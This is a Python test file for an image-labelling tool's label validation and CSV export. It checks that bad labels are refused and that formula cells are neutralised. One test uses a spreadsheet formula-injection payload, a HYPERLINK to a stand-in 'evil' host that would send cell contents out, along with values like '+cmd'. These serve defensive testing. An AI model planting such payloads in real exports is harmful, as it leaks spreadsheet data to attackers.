"""Labels from a CSV, a folder name or typed in: one check (``vss_core.labeling.labels.validate_label``) refuses what
cannot be listed, filtered and deleted again; exports neutralise cells a spreadsheet would run."""

from __future__ import annotations

import csv
import io

import numpy as np
import pytest

from tests.fixtures_models import label_image
from tests.test_store import retired, review_of
from vss_core.errors import InputError
from vss_core.labeling.labels import MAX_LABEL_CHARS, csv_cell, validate_label
from vss_core.labeling.loader import collect_csv, collect_folder, load_items
from vss_core.redis.exemplars import Record
from vss_core.redis.schema import TAG_SEPARATOR


@pytest.fixture(scope="module")
def embedder(tiny_vit_dir):
    from vss_core.embed.embedder import Embedder

    return Embedder(str(tiny_vit_dir), device="cpu", batch_size=4)


def test_a_quoted_line_break_in_a_csv_label_is_refused_naming_the_line(tmp_path):
    (tmp_path / "a.jpg").write_bytes(b"x")
    (tmp_path / "labels.csv").write_text('path,label\na.jpg,copepod\na.jpg,"first\nsecond"\n')
    with pytest.raises(InputError, match=r"labels.csv line 3: label 'first\\nsecond' contains a line break"):
        collect_csv(tmp_path / "labels.csv")


def test_a_quoted_line_break_in_a_csv_path_is_kept(tmp_path):
    (tmp_path / "labels.csv").write_text('path,label\n"odd\nname.jpg",copepod\n')
    [item] = collect_csv(tmp_path / "labels.csv")
    assert item.path == tmp_path / "odd\nname.jpg" and item.label == "copepod"


@pytest.mark.parametrize("label, words", [
    ("x" * (MAX_LABEL_CHARS + 1), f"is {MAX_LABEL_CHARS + 1:,} characters long; a label may have at most 256"),
    ("🐙" * 4096, "is 4,096 characters long"),
    (f"cope{TAG_SEPARATOR}pod", "contains the index's tag separator"),
    ("tab\there", r"contains the control character '\\t'"),
])
def test_csv_labels_too_long_or_holding_the_separator_are_refused_at_input(tmp_path, label, words):
    (tmp_path / "labels.csv").write_text(f"path,label\na.jpg,{label}\n", encoding="utf-8")
    with pytest.raises(InputError, match=words):
        collect_csv(tmp_path / "labels.csv")


def test_a_label_folder_whose_name_cannot_be_a_label_fails_alone(tmp_path, vector_store, embedder):
    vector_store.ensure_index(embedder.dim)
    for name in ("copepod", f"bad{TAG_SEPARATOR}name", "line\nbreak"):
        (tmp_path / "ex" / name).mkdir(parents=True)
        label_image("circles", seed=len(name)).save(tmp_path / "ex" / name / "a.jpg")
    report = load_items(collect_folder(tmp_path / "ex"), embedder, vector_store)
    assert report.loaded == 1 and set(vector_store.label_counts()) == {"copepod"}
    reasons = sorted(reason for _, reason in report.failed)
    assert "tag separator" in reasons[0] and "contains a line break" in reasons[1]


def test_the_longest_label_lists_filters_and_deletes_on_a_real_index(vector_store):
    vector_store.ensure_index(8)
    longest = ["🐙" * MAX_LABEL_CHARS, "é" * MAX_LABEL_CHARS, ("a b-c.d:{e}|" * 30)[:MAX_LABEL_CHARS]]
    rng = np.random.default_rng(0)
    for n, label in enumerate(longest):
        validate_label(label)
        vector_store.add([Record(label=label, id=f"i{n}", vector=rng.random(8).astype(np.float32), source="s")])
    assert set(vector_store.label_counts()) == set(longest)
    for label in longest:
        assert [e.label for e in vector_store.exemplars(label, 0, 10)] == [label]
        assert retired(review_of(vector_store).retire_label(label, "ann")) == 1
    assert vector_store.label_counts() == {}


def test_validate_label_is_the_one_check():
    assert validate_label("  Calanus – ♀ ") == "Calanus – ♀"
    assert validate_label("doc:with:colons") == "doc:with:colons"  # keys split at the last ':'
    for bad in ("", "   ", "a\nb", "a\rb", "x" * 257, f"a{TAG_SEPARATOR}b", "a\x00b"):
        with pytest.raises(InputError):
            validate_label(bad)


def test_csv_cell_neutralises_formulas_and_keeps_numbers():
    assert [csv_cell(v) for v in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx")] == \
        ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ("-0.250000", "+1e-3", "copepod", "", 3, None)] == \
        ["-0.250000", "+1e-3", "copepod", "", 3, None]


def test_the_label_sheet_neutralises_formula_cells(redis_project, redis_client, embedder, image_folder, tmp_path):
    from vss_core.labeling.decisions import Change, open_decisions
    from vss_core.labeling.labelsheet import to_csv
    from vss_core.labeling.predict import predict_paths

    d = open_decisions(redis_project, embedder.dim, embedder.model_name)
    load_items(collect_folder(image_folder), embedder, d.exemplars)
    label_image("circles", seed=77).save(tmp_path / "=HYPERLINK(x).jpg")
    predict_paths([tmp_path / "=HYPERLINK(x).jpg"], embedder, d.exemplars, d.pool)
    item = d.pool.page(limit=1)[1][0]
    d.apply([Change(item.id, "accepted", '=HYPERLINK("http://evil/?"&A1,"x")', item.version)], "@ana")
    [row] = list(csv.DictReader(io.StringIO(to_csv(d.pool))))
    assert row["label"] == '\'=HYPERLINK("http://evil/?"&A1,"x")'
    assert row["annotator"] == "'@ana"
    assert float(row["score"]) == pytest.approx(item.best, abs=1e-6)
